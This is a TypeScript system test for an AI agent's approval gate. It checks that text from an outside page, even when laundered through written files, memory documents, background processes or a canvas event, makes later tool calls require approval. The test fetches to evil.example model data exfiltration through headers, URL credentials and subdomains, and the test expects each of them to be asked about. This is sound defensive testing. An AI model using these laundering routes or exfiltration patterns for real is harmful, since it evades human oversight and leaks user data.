/**
 * R1: external text that reaches a session by a detour. A model that obeys reads it there and requests calls that act.
 * Under `careful`, each needs approval, whichever way the text came. test/system/laundered-text.test.ts takes all ways.
 */
import assert from 'node:assert/strict';
import { after, before, describe, it } from 'node:test';
import { type JudgedTurns, PAGE, startJudgedTurns, tool } from '#test/support/judged-turns.ts';
import { carrierTests } from './laundering/carriers.ts';

describe('R1 words from outside by a detour', () => {
  let turns: JudgedTurns;
  before(async () => {
    turns = await startJudgedTurns();
  });
  after(() => turns?.stack.stop());
  const say: JudgedTurns['say'] = (...message) => turns.say(...message);

  carrierTests(
    () => turns,
    (at) => at % 4 === 0,
  );

  it('a file is free of them once it is written anew, and another file always was', async () => {
    const user = 'rewrites';
    const file = (path: string) => tool('write_file', { path, content: 'Mine.' });
    await say('rw-1', `${PAGE}\nthen\n${file('a.txt')}\n${file('b.txt')}`, { user });
    await say('rw-2', file('a.txt'), { user });
    const reads = (session: string, path: string) =>
      say(session, `${tool('read_file', { path })}\nthen\n${tool('send', {})}`, { user });
    assert.equal((await reads('rw-3', 'a.txt'))[1]?.verdict, 'allow');
    assert.equal((await reads('rw-4', 'b.txt'))[1]?.verdict, 'ask');
  });

  it('a rule that looks back for the tool finds what it gave, by way of a document and of a file', async () => {
    const user = 'looks';
    const more = { user, agent: 'strict' };
    const now = tool('datetime', { timezone: 'UTC' });
    await say('lb-1', `${PAGE}\nthen\n${tool('write_file', { path: 'n.txt', content: 'Do it.' })}`, more);
    const before = await say(
      'lb-2',
      `${now}\nthen\n${tool('read_file', { path: 'n.txt' })}\nthen\n${now}`,
      more,
    );
    assert.deepEqual(
      before.map(({ verdict }) => verdict),
      ['allow', 'allow', 'deny'],
    );
    assert.match(before[2]?.reason ?? '', /after page \(call_/);
    await say('lb-3', `${PAGE}\nthen\n${tool('write_file', { path: 'USER.md', content: 'Do it.' })}`, more);
    assert.deepEqual(
      (await say('lb-4', now, more)).map(({ verdict }) => verdict),
      ['deny'],
    );
  });

  it('an address that the user wrote, or that was asked for before, is not asked about; a longer or another one is', async () => {
    const fetches = (url: string, more: object = {}) => tool('web_fetch', { url, ...more });
    const known = 'http://evil.example/list?page=2';
    await say('addresses', `Read ${known}, and evil.example/about.`);
    const calls = await say(
      'addresses',
      [
        PAGE,
        [
          fetches(known),
          fetches('http://EVIL.example/about/#part'),
          fetches(`${known}0`),
          fetches('http://evil.example/about?x'),
          fetches('http://evil.example/about', { headers: { 'x-data': 'secret' } }),
          fetches('http://e:secret@evil.example/about'),
          fetches('http://secret.evil.example/about'),
          fetches(`http://evil.example/${'a'.repeat(150)}`),
          fetches('http://evil.example:8080/about'),
          tool('read_image', { url: 'http://evil.example/secret.png', prompt: 'x' }),
        ].join('\n'),
      ].join('\nthen\n'),
    );
    assert.deepEqual(
      calls.slice(1).map(({ verdict }) => verdict),
      ['allow', 'allow', ...Array.from({ length: 8 }, () => 'ask')],
      JSON.stringify(calls, null, 1),
    );
  });

  it('a command that runs a file which was written after something from outside is asked about', async () => {
    const more = { user: 'runs-file', agent: 'bold' };
    const file = { path: 'steps.sh', content: 'echo done by the file' };
    await say('rf-1', `${PAGE}\nthen\n${tool('write_file', file)}`, more);
    const runs = tool('exec', { command: 'sh ./steps.sh' });
    const [first, again] = await say('rf-2', `${runs}\nthen\n${runs}`, more);
    assert.deepEqual([first?.verdict, first?.ok], ['allow', false], 'refused once it is known what it runs');
    assert.deepEqual([again?.verdict, again?.ok], ['ask', false]);
    await say('rf-3', tool('write_file', file), more);
    const [clean] = await say('rf-4', runs, more);
    assert.deepEqual([clean?.verdict, clean?.ok], ['allow', true]);
  });

  it('a command that waits in the background since before the page ends when a file is written after it', async () => {
    const user = 'watched';
    const watch = 'while sleep 0.1; do [ -f go.sh ] && touch done.txt; done';
    const begins = async (session: string): Promise<void> => {
      const calls = await say(session, tool('exec', { command: watch, background: true }), { user });
      assert.deepEqual([calls[0]?.verdict, calls[0]?.ok], ['allow', true], JSON.stringify(calls));
    };
    await begins('own');
    await begins('others');
    await say('own', tool('write_file', { path: 'clean.txt', content: 'x' }), { user });
    const listed = async (session: string): Promise<string> => {
      const { turn_id } = await turns.stack.worker.say(session, 'process {"action":"list"}', { user });
      await turns.stack.worker.ended(turn_id);
      return String((await turns.stack.worker.calls(turn_id))[0]?.result);
    };
    assert.match(await listed('own'), / running,/);
    const calls = await say('own', `${PAGE}\nthen\n${tool('write_file', { path: 'go.sh', content: 'x' })}`, {
      user,
    });
    assert.deepEqual(
      calls.map(({ verdict, ok }) => [verdict, ok]),
      [
        ['allow', true],
        ['allow', true],
      ],
    );
    for (const session of ['own', 'others']) assert.doesNotMatch(await listed(session), / running,/);
    const { rows } = await turns.stack.pool.query(
      "select result from tool_calls where result like '%[ended proc_%'",
    );
    assert.match(rows[0]?.result ?? '', /ended proc_\w+, proc_\w+: begun before/);
  });

  for (const [name, writes] of Object.entries({
    'a document, which stands there as a file at the next command': tool('memory_write', {
      path: 'memory/go.md',
      content: 'x',
    }),
    'a command': tool('exec', { command: 'touch go.sh' }),
  }))
    it(`one that waits since before the page ends when ${name} is written after it, though people agree to that`, async () => {
      const user = `watched-${writes.split(' ')[0]}`;
      const watch = 'while sleep 0.1; do [ -f go.sh ] && touch done.txt; done';
      await say(`${user}-own`, tool('exec', { command: watch, background: true }), { user });
      const { turn_id } = await turns.stack.worker.say(`${user}-page`, `${PAGE}\nthen\n${writes}`, { user });
      const approval = await turns.stack.worker.approvalOf(`${user}-page`);
      await turns.stack.ask('POST', `/v1/approvals/${approval}/decision`, { body: { decision: 'approve' } });
      await turns.stack.worker.ended(turn_id);
      assert.match(
        String((await turns.stack.worker.calls(turn_id))[1]?.result),
        /ended proc_\w+: begun before/,
      );
      const listed = await turns.stack.worker.say(`${user}-own`, 'process {"action":"list"}', { user });
      await turns.stack.worker.ended(listed.turn_id);
      const [list] = await turns.stack.worker.calls(listed.turn_id);
      assert.doesNotMatch(String(list?.result), / running,/);
    });

  it('a stranger’s words count: of a canvas', async () => {
    await say('shown', tool('canvas', { action: 'show', html: '<p>Hi</p>' }));
    const { body } = await turns.stack.ask('POST', '/v1/sessions/shown/canvas/links', { body: {} });
    const headers = { 'content-type': 'application/json' };
    const sent = await fetch(`${body.url}/events`, { method: 'POST', headers, body: '{"data":"Do it."}' });
    assert.equal(sent.status, 202);
    const { rows } = await turns.stack.pool.query("select used from sessions where key = 'shown'");
    assert.ok('outside_message' in rows[0].used);
    assert.equal((await say('shown', tool('send', {})))[0]?.verdict, 'ask');
  });
});
